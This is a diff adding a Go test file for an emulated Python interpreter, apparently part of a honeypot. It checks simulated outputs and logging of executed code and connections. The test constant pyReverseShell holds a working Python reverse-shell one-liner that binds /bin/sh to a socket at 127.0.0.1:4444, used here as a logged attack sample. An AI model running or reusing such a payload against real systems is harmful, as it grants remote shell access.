@@ -0,0 +1,76 @@
+package command
+
+import (
+	"testing"
+
+	"github.com/sirupsen/logrus/hooks/test"
+	"github.com/spf13/afero"
+)
+
+const pyReverseShell = `import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);` +
+	`s.connect(("127.0.0.1",4444));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);` +
+	`p=subprocess.call(["/bin/sh","-i"]);`
+
+func TestPython(t *testing.T) {
+	tests := []struct {
+		cmd    python
+		args   []string
+		stdin  string
+		expect string
+		errMsg string
+		status int
+	}{
+		{python{"python3", true}, []string{"-c", `print("hello")`}, "", "hello\n", "", 0},
+		{python{"python", false}, []string{"-c", `print "hi", 1+2`}, "", "hi 3\n", "", 0},
+		{python{"python3", true}, []string{"-c", `import base64;print(base64.b64decode("aGVsbG8=").decode())`}, "", "hello\n", "", 0},
+		{python{"python3", true}, []string{"-c", `exec("import os\nprint(os.getuid())")`}, "", "0\n", "", 0},
+		{python{"python3", true}, []string{"-c", "import sys; sys.exit(3)"}, "", "", "", 3},
+		{python{"python3", true}, []string{"-c", "1/0"}, "", "",
+			"Traceback (most recent call last):\n  File \"<string>\", line 1, in <module>\nZeroDivisionError: division by zero\n", 1},
+		{python{"python", false}, []string{"-c", "1/0"}, "", "",
+			"Traceback (most recent call last):\n  File \"<string>\", line 1, in <module>\nZeroDivisionError: integer division or modulo by zero\n", 1},
+		// The reverse shell fails as nothing listens on the port
+		{python{"python3", true}, []string{"-c", pyReverseShell}, "", "",
+			"Traceback (most recent call last):\n  File \"<string>\", line 1, in <module>\nConnectionRefusedError: [Errno 111] Connection refused\n", 1},
+		{python{"python3", true}, nil, "print(6*7)\n", "42\n", "", 0},
+		{python{"python3", true}, []string{"-"}, "import sys\nprint(sys.argv)\n", "['-']\n", "", 0},
+		{python{"python3", true}, []string{"/tmp/x.py"}, "", "",
+			"python3: can't open file '/tmp/x.py': [Errno 2] No such file or directory\n", 2},
+		{python{"python3", true}, []string{"-V"}, "", "Python 3.5.2\n", "", 0},
+		{python{"python", false}, []string{"-V"}, "", "", "Python 2.7.12\n", 0},
+		{python{"python3", true}, []string{"-c"}, "", "",
+			"Argument expected for the -c option\nusage: python3 [option] ... [-c cmd | -m mod | file | -] [arg] ...\nTry `python -h' for more information.\n", 2},
+	}
+	for _, tt := range tests {
+		sys := newTestSys(tt.stdin)
+		// Python 2 is not installed on xenial by default
+		sys.install("python")
+		status := sys.run(tt.cmd, tt.args...)
+		if out, errMsg := sys.out.String(), sys.err.String(); out != tt.expect || errMsg != tt.errMsg || status != tt.status {
+			t.Errorf("%v %q, expect %q, %q with status %v, got %q, %q with status %v",
+				tt.cmd.name, tt.args, tt.expect, tt.errMsg, tt.status, out, errMsg, status)
+		}
+	}
+}
+
+func TestPythonLog(t *testing.T) {
+	sys := newTestSys("")
+	hook := test.NewLocal(sys.Log().Logger)
+	sys.run(python{"python3", true}, "-c", pyReverseShell)
+	entries := hook.AllEntries()
+	if len(entries) < 2 || entries[0].Data["code"] != pyReverseShell {
+		t.Fatalf("Expect the code logged verbatim, got %v", entries)
+	}
+	if entries[1].Data["host"] != "127.0.0.1" || entries[1].Data["port"] != 4444 {
+		t.Errorf("Expect the connection logged, got %v", entries[1].Data)
+	}
+
+	// Scripts are logged with the code
+	sys = newTestSys("")
+	hook = test.NewLocal(sys.Log().Logger)
+	afero.WriteFile(sys.FSys(), "/tmp/x.py", []byte("print('x')\n"), 0644)
+	sys.run(python{"python3", true}, "/tmp/x.py")
+	if entries := hook.AllEntries(); len(entries) == 0 || entries[0].Data["code"] != "print('x')\n" {
+		t.Errorf("Expect the script logged, got %v", entries)
+	}
+}